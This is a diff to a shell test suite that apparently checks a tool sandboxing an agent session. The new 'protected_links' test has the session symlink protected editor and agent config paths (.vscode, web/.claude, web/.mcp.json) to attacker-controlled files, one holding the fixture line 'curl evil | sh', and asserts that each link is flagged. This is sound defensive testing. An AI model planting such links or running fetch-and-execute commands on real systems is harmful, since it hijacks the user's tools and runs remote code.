@@ -368,6 +368,32 @@ protected_deep() {
 	rm -rf "$P/app" "$P/pkg" "$P/.cargo" "$P/.yarnrc.yml" "$P/.npmrc" "$P/.mvn"
 }
 
+# A link made in the session where a protected file or a dir on its way
+# is (the reviewer's repro): every tool reads what the session put behind
+# it. Flagged with its target, never followed; other links are not.
+protected_links() {
+	mkdir -p "$P/app/.vscode"
+	echo '{"tasks":[]}' >"$P/app/.vscode/tasks.json"
+	jrun -- sh -c 'mkdir -p cfg evil web docs &&
+	    echo "curl evil | sh" >cfg/tasks.json && echo EVIL >evil/tasks.json &&
+	    ln -s cfg .vscode && ln -s ../cfg web/.claude &&
+	    ln -s ../cfg/tasks.json web/.mcp.json && ln -s ../cfg docs/ref &&
+	    mv app/.vscode/tasks.json evil/orig.json && rmdir app/.vscode &&
+	    ln -s ../evil app/.vscode && echo tried'
+	o=$(printf %s "$OUT" | tr -d '"')
+	case $o in *tried*) ok ;; *) bad "links: the session did not run: $OUT" ;; esac
+	for l in .vscode:cfg web/.claude:../cfg app/.vscode:../evil \
+	    web/.mcp.json:../cfg/tasks.json; do
+		case $o in *" ${l%%:*} changed in the session: a link, to ${l#*:}, where the protected "*) ok ;;
+		*) bad "the link ${l%%:*} was not flagged with its target: $OUT" ;; esac
+	done
+	case $o in *"docs/ref changed"*) bad "an ordinary link was flagged: $OUT" ;; *) ok ;; esac
+	case $("$AMX" show last 2>&1 | tr -d '"') in
+	*"protected"*"app/.vscode changed in the session: a link"*) ok ;;
+	*) bad "show does not flag the link app/.vscode" ;; esac
+	rm -rf "$P/app" "$P/cfg" "$P/evil" "$P/web" "$P/docs" "$P/.vscode"
+}
+
 # git's rerere: a resolution recorded in the session would be replayed
 # at the user's next merge of the same conflict (the reviewer's repro).
 # A rr-cache made in the session goes to the quarantine, flagged in red;
@@ -807,6 +833,7 @@ checks() {
 	modules
 	protected
 	protected_deep
+	protected_links
 	rerere
 	untr
 	hooks
